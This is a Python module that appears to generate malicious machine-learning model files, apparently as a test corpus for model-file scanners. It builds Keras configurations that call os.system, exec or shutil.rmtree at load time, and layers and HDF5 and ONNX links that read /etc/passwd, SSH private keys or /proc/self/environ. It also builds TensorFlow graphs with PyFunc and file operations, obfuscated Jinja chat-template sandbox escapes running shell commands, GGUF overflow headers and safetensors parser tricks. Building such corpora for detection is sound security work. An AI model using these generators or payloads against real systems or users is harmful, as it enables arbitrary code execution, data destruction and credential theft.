"""Mechanisms in formats that are no pickles: Keras, HDF5, ONNX, TensorFlow graphs, GGUF, safetensors."""

import base64
import io
import json
import marshal
import struct

import payloads
import repositories
import zips
from carriers import Sample, file_name, program
from mechanism import Mechanism
from spellings import payload

# --- Keras -------------------------------------------------------------------------------------------------------


def byte_code(rng):
    """The marshalled code of a function, as a Lambda layer keeps it."""
    space = {}
    exec(f"def f(x):\n    return '{payloads.marker(rng)}'", space)  # noqa: S102  our own text
    return base64.b64encode(marshal.dumps(space["f"].__code__)).decode()


def sequential(*layers):
    """The configuration of a model of these layers, as Keras 3 writes it."""
    first = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": [first, *layers]},
        "registered_name": None,
    }


def layer(module, name, config, **more):
    return {"module": module, "class_name": name, "config": config, "registered_name": None} | more


def lambda_layer(rng):
    function = {"class_name": "__lambda__", "config": {"code": byte_code(rng), "defaults": None, "closure": None}}
    return layer("keras.layers", "Lambda", {"name": "lambda", "function": function})


def foreign_reference(rng):
    """A module and a function that are imported and called while the model loads."""
    module, name = rng.choice(
        [("os", "system"), ("builtins", "exec"), ("subprocess", "run"), ("pickle", "loads"), ("shutil", "rmtree")]
    )
    return layer(module, "function", name, registered_name="function")


def reference_with_call(rng):
    function = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    config = {"function": function, "arguments": {"code": payloads.code(rng)}}
    return layer("keras.layers", "Lambda", config)


def keras_own_gadget(rng):
    """Keras's own functions as the gadget: a download, a switch that turns the safe mode off."""
    name, module = rng.choice(
        [
            ("get_file", "keras.utils"),
            ("enable_unsafe_deserialization", "keras.config"),
            ("func_load", "keras.src.utils.python_utils"),
            ("load_model", "keras.models"),
            ("enable_unsafe_deserialization", "keras.src.saving.serialization_lib"),
        ]
    )
    reference = layer(module, "function", name, registered_name="function")
    config = {
        "name": "x",
        "function": reference,
        "arguments": {"fname": payloads.marker(rng), "origin": payloads.address(rng)},
    }
    return layer("keras.layers", "Lambda", config)


def torch_wrapper(rng):
    """A layer that unpickles a torch module out of its configuration."""
    tree, _ = payload(rng)
    blob = base64.b64encode(program(rng, tree)).decode()
    return layer("keras.src.utils.torch_utils", "TorchModuleWrapper", {"module": blob, "name": "w"})


def vocabulary_path(rng):
    """A vocabulary that is read from any file of the machine, or from the network."""
    place = rng.choice(["/etc/passwd", "/root/.ssh/id_rsa", payloads.address(rng), "../../../etc/hostname"])
    return layer(
        "keras.layers", rng.choice(["StringLookup", "IntegerLookup", "TextVectorization"]), {"vocabulary": place}
    )


KERAS_LAYERS = [lambda_layer, foreign_reference, reference_with_call, keras_own_gadget, torch_wrapper, vocabulary_path]


def keras_zip(make_layer):
    def make(rng, variant):
        config = sequential(make_layer(rng))
        if variant % 3 == 2:
            config = sequential(layer("keras", "Sequential", sequential(make_layer(rng))["config"]))
        entries = [
            zips.Entry("metadata.json", json.dumps({"keras_version": "3.15.1"}).encode()),
            zips.Entry("config.json", json.dumps(config).encode()),
            zips.Entry("model.weights.h5", h5_file({})),
        ]
        return Sample({file_name(rng, ".keras", ".keras", ".zip"): zips.write(entries)}, "keras.models.load_model")

    return make


def keras_pickle(rng, _):
    """A pickle among a model's assets."""
    tree, _ = payload(rng)
    entries = [
        zips.Entry("metadata.json", b'{"keras_version": "3.15.1"}'),
        zips.Entry("config.json", json.dumps(sequential()).encode()),
        zips.Entry("model.weights.h5", h5_file({})),
        zips.Entry(f"assets/{payloads.marker(rng)}.pkl", program(rng, tree)),
    ]
    return Sample({"model.keras": zips.write(entries)}, "a layer that loads its assets")


def h5_file(attributes, fill=None):
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        for name, value in attributes.items():
            file.attrs[name] = value
        file.create_dataset("weights/kernel", data=[[1.0, 2.0]])
        if fill:
            fill(file, h5py)
    return buffer.getvalue()


def keras_h5(make_layer):
    def make(rng, _):
        config = sequential(make_layer(rng))
        data = h5_file({"model_config": json.dumps(config), "keras_version": "2.15.0", "backend": "tensorflow"})
        return Sample({file_name(rng, ".h5", ".hdf5", ".keras", ".bin"): data}, "keras.models.load_model")

    return make


def old_lambda(rng):
    """A Lambda as Keras 2 keeps it: a list of marshalled code, defaults and closure."""
    config = {
        "name": "lambda",
        "function": [byte_code(rng), None, None],
        "function_type": "lambda",
        "module": "__main__",
    }
    return {"class_name": "Lambda", "config": config}


def h5_link(rng, variant):
    """A link to another file of the machine, or a dataset whose bytes lie in one."""

    def fill(file, h5py):
        target = rng.choice(["/etc/passwd", "../../secret.h5", "/root/.ssh/id_rsa"])
        if variant % 2:
            file["weights/bias"] = h5py.ExternalLink(target, "/data")
        else:
            file.create_dataset("weights/bias", shape=(16,), dtype="u1", external=[(target, 0, 16)])

    return Sample({file_name(rng, ".h5", ".weights.h5"): h5_file({}, fill)}, "keras.models.load_model")


# --- Protocol buffers by hand ------------------------------------------------------------------------------------


def varint(value):
    out = bytearray()
    while True:
        value, low = value >> 7, value & 127
        out.append(low | (128 if value else 0))
        if not value:
            return bytes(out)


def message(*fields):
    """Fields as (number, value): an int is a varint, bytes and text are length-delimited."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            value = value.encode() if isinstance(value, str) else value
            out += varint(number << 3 | 2) + varint(len(value)) + value
    return out


def attribute(key, value):
    """An entry of a TensorFlow node's attributes, a text."""
    return message((1, key), (2, message((2, value))))


TF_OPERATIONS = {
    "ReadFile": [],
    "WriteFile": [],
    "PyFunc": ["token"],
    "PyFuncStateless": ["token"],
    "EagerPyFunc": ["token"],
    "PrintV2": ["output_stream"],
    "MatchingFiles": [],
    "WholeFileReaderV2": ["container"],
    "Save": [],
    "MergeV2Checkpoints": [],
}


def tf_node(rng, operation):
    attributes = [(5, attribute(key, "file://" + payloads.path(rng))) for key in TF_OPERATIONS[operation]]
    return message((1, payloads.marker(rng)), (2, operation), (3, "input"), *attributes)


def tf_graph(rng, operation, in_function):
    honest = [(1, message((1, "input"), (2, "Placeholder"))), (1, message((1, "relu"), (2, "Relu"), (3, "input")))]
    node = tf_node(rng, operation)
    if in_function:
        library = message((1, message((1, message((1, "inner"))), (3, node))))
        return message(*honest, (2, library))
    return message(*honest, (1, node))


def tf_saved(rng, variant):
    """A saved model whose graph reads or writes files, or calls Python."""
    operation = list(TF_OPERATIONS)[variant % 8]
    graph = tf_graph(rng, operation, rng.random() < 0.4)
    meta = message((1, message((4, "serve"), (5, "2.15.0"))), (2, graph))
    files = {"saved_model.pb": message((1, 1), (2, meta)), "variables/variables.index": b"", "fingerprint.pb": b""}
    return Sample(files, "tf.saved_model.load")


def tf_frozen(rng, variant):
    operation = list(TF_OPERATIONS)[variant % 8]
    return Sample({file_name(rng, ".pb"): tf_graph(rng, operation, False)}, "tf.import_graph_def")


def keras_metadata(rng, _):
    """`keras_metadata.pb` of a saved model, with a Lambda in its text."""
    text = json.dumps({"class_name": "Functional", "config": {"layers": [old_lambda(rng)]}})
    node = message((2, 0), (3, "root"), (4, "_tf_keras_model"), (5, text))
    graph = message((1, message((1, "input"), (2, "Placeholder"))))
    meta = message((1, message((4, "serve"))), (2, graph))
    return Sample({"saved_model.pb": message((1, 1), (2, meta)), "keras_metadata.pb": message((1, node))}, "keras")


def onnx_external(rng, variant):
    """Weights that are read from any file of the machine."""
    import onnx
    from onnx import TensorProto, helper

    place = ["../../../../etc/passwd", "/etc/passwd", "..\\..\\secret", "a/../../b", "/proc/self/environ"][variant % 5]
    weight = TensorProto(name="w", data_type=1, dims=[4], data_location=TensorProto.EXTERNAL)
    weight.external_data.add(key="location", value=place)
    x, y = (helper.make_tensor_value_info(name, 1, [4]) for name in "xy")
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], [weight])
    data = onnx.helper.make_model(graph).SerializeToString()
    return Sample({file_name(rng, ".onnx"): data}, "onnx.load")


def onnx_python(rng, variant):
    """A node that calls Python, of the extensions that allow it."""
    from onnx import helper

    domain, operation = [
        ("ai.onnx.contrib", "PythonOp"),
        ("com.microsoft", "PyOp"),
        ("pyopmulti_2", "PyOp"),
        ("com.microsoft", "PythonOp"),
    ][variant % 4]
    options = {"module": payloads.module(rng), "class_name": "Op", "compute": "run"}
    node = helper.make_node(operation, ["x"], ["y"], domain=domain, **options)
    x, y = (helper.make_tensor_value_info(name, 1, [4]) for name in "xy")
    model = helper.make_model(helper.make_graph([node], "g", [x], [y]))
    return Sample({file_name(rng, ".onnx"): model.SerializeToString()}, "onnxruntime")


# --- chat templates ----------------------------------------------------------------------------------------------


def dunder(rng, word):
    """An expression for `__word__` without the word in the text."""
    name = f"__{word}__"
    middle = rng.randrange(3, len(name) - 2)
    hexed = "".join("\\x%02x" % ord(c) if rng.random() < 0.5 else c for c in name)
    return rng.choice(
        [
            f"'{name}'",
            f"'{name[:middle]}'~'{name[middle:]}'",
            f"'{name[:middle]}'+'{name[middle:]}'",
            f"['{name[:middle]}','{name[middle:]}']|join",
            f"'{name[::-1]}'|reverse",
            f"'{hexed}'",
            f"'%s%s%s'|format('__','{word}','__')",
            f"'{name.upper()}'|lower",
            f"'{name.replace('_', '-')}'|replace('-','_')",
            f"('_'*2)~'{word}'~('_'*2)",
        ]
    )


def walk(rng, start, *words):
    """Attributes of `start`, one behind the other, each fetched in some way."""
    text = start
    for word in words:
        way = rng.randrange(3)
        if way == 0:
            text += f".__{word}__"
        elif way == 1:
            text = f"({text}|attr({dunder(rng, word)}))"
        else:
            text += f"[{dunder(rng, word)}]"
    return text


def template(rng):
    """An honest-looking template with an escape from the sandbox in it."""
    command = payloads.command(rng).replace("'", "")
    start = rng.choice(["''", "()", "[]", "messages", "x", "1", "none", "raise_exception"])
    owner = rng.choice(["cycler", "lipsum", "joiner", "namespace", "range", "self", "raise_exception"])
    attack = rng.choice(
        [
            "{{ %s() }}" % walk(rng, start, "class", "base", "subclasses"),
            "{{ %s }}" % walk(rng, owner, "init", "globals"),
            "{{ %s.os.popen('%s').read() }}" % (walk(rng, owner, "init", "globals"), command),
            "{%% set g = %s %%}{{ g['os'].system('%s') }}" % (walk(rng, owner, "globals"), command),
            "{%% for c in %s() %%}{%% if 'Popen' in c|string %%}{{ c('%s', shell=True) }}{%% endif %%}{%% endfor %%}"
            % (walk(rng, start, "class", "base", "subclasses"), command),
            "{{ '{0.__class__.__base__}'.format(%s) }}" % start,
            "{{ messages|map(attribute=%s)|list }}" % dunder(rng, "class"),
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('%s') }}" % command,
            "{%% import %s as m %%}{{ m }}" % dunder(rng, "builtins"),
            "{%% set a = %s %%}{%% set b = %s %%}{{ x|attr(a)|attr(b) }}" % (dunder(rng, "class"), dunder(rng, "mro")),
            "{{ (%s)(%s).system('%s') }}"
            % (walk(rng, owner, "globals", "builtins") + "['__import__']", "'os'", command),
        ]
    )
    honest = "{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}"
    return rng.choice(
        [attack + honest, honest + attack, "{% if add_generation_prompt %}" + attack + "{% endif %}" + honest]
    )


def gguf_file(pairs):
    """A GGUF file of version 3 with these texts and one small tensor."""

    def text(value):
        data = value.encode()
        return struct.pack("<Q", len(data)) + data

    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(pairs))
    for key, value in pairs.items():
        if isinstance(value, list):
            out += text(key) + struct.pack("<IIQ", 9, 8, len(value)) + b"".join(text(item) for item in value)
        else:
            out += text(key) + struct.pack("<I", 8) + text(value)
    out += text("token_embd.weight") + struct.pack("<IQIQ", 1, 8, 0, 0)
    out += b"\0" * (-len(out) % 32)
    return out + struct.pack("<8f", *range(8))


def gguf_template(rng, variant):
    """In the first template, or in one of the named ones that only some programs use."""
    honest = "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    pairs = {"general.architecture": "llama", "general.name": "model", "tokenizer.chat_template": honest}
    if variant % 3 == 0:
        name = rng.choice(["tool_use", "rag", payloads.marker(rng)])
        pairs[f"tokenizer.chat_template.{name}"] = template(rng)
        pairs["tokenizer.chat_templates"] = [name]
    else:
        pairs["tokenizer.chat_template"] = template(rng)
    return Sample({file_name(rng, ".gguf", ".gguf", ".bin"): gguf_file(pairs)}, "llama_cpp.Llama")


def gguf_broken(rng, variant):
    """Lengths and counts that overflow a reader."""
    huge = [2**63, 2**64 - 1, 2**40, 2**32][variant % 4]
    head = b"GGUF" + struct.pack("<I", 3)
    bodies = [
        head + struct.pack("<QQ", huge, 1),
        head + struct.pack("<QQ", 1, huge),
        head + struct.pack("<QQ", 0, 1) + struct.pack("<Q", huge) + b"abc",
        head + struct.pack("<QQ", 0, 1) + struct.pack("<Q", 1) + b"k" + struct.pack("<IIQ", 9, 8, huge),
    ]
    return Sample({file_name(rng, ".gguf"): rng.choice(bodies) + bytes(64)}, "llama_cpp.Llama")


def template_file(rng, variant):
    """The same templates in the files of a tokenizer."""
    body = template(rng)
    config = {"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 512}
    honest = "{{ messages[0]['content'] }}"
    files = [
        {"tokenizer_config.json": config | {"chat_template": body}},
        {
            "tokenizer_config.json": config
            | {"chat_template": [{"name": "default", "template": honest}, {"name": "tool_use", "template": body}]}
        },
        {"chat_template.jinja": body},
        {"chat_template.json": {"chat_template": body}},
        {"processor_config.json": {"chat_template": body}},
        {"additional_chat_templates/tool_use.jinja": body},
    ][variant % 6]
    return Sample(repositories.folder(files), "tokenizer.apply_chat_template")


# --- safetensors -------------------------------------------------------------------------------------------------


def safetensors_file(header, body):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + body


def safetensors_trick(rng, variant):
    """One header that two readers read otherwise; an archive that Python runs behind the tensors; a pickle by that name."""
    tensor = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    one, two = json.dumps(tensor), json.dumps(tensor | {"data_offsets": [8, 16]})
    tree, _ = payload(rng)
    script = zips.write([zips.Entry("__main__.py", payloads.code(rng).encode())])
    builders = [
        lambda: safetensors_file(('{"w":%s,"v":%s,"w":%s}' % (one, two, two)).encode(), bytes(16)),
        lambda: safetensors_file({"w": tensor}, bytes(8) + script),
        lambda: program(rng, tree),
    ]
    return Sample(
        {file_name(rng, ".safetensors"): builders[variant % len(builders)]()}, "another reader, or Python itself"
    )


def mechanisms(carriers):
    for make_layer in KERAS_LAYERS:
        yield Mechanism("m16_keras", f"keras_{make_layer.__name__}", keras_zip(make_layer))
    for make_layer in (lambda_layer, old_lambda, foreign_reference):
        yield Mechanism("m16_keras", f"h5_{make_layer.__name__}", keras_h5(make_layer), 4)
    yield Mechanism("m16_keras", "keras_pickle", keras_pickle, 4)
    yield Mechanism("m16_keras", "h5_link", h5_link, 6)
    yield Mechanism("m17_onnx", "onnx_external", onnx_external, 5)
    yield Mechanism("m17_onnx", "onnx_python", onnx_python, 4)
    yield Mechanism("m18_templates", "gguf_template", gguf_template, 24)
    yield Mechanism("m18_templates", "gguf_broken", gguf_broken, 8)
    yield Mechanism("m18_templates", "template_file", template_file, 24)
    yield Mechanism("m19_safetensors", "safetensors_trick", safetensors_trick, 6)
    yield Mechanism("m20_tensorflow", "tf_saved", tf_saved, 10)
    yield Mechanism("m20_tensorflow", "tf_frozen", tf_frozen, 8)
    yield Mechanism("m20_tensorflow", "keras_metadata", keras_metadata, 3)
    yield from repositories.mechanisms(carriers)
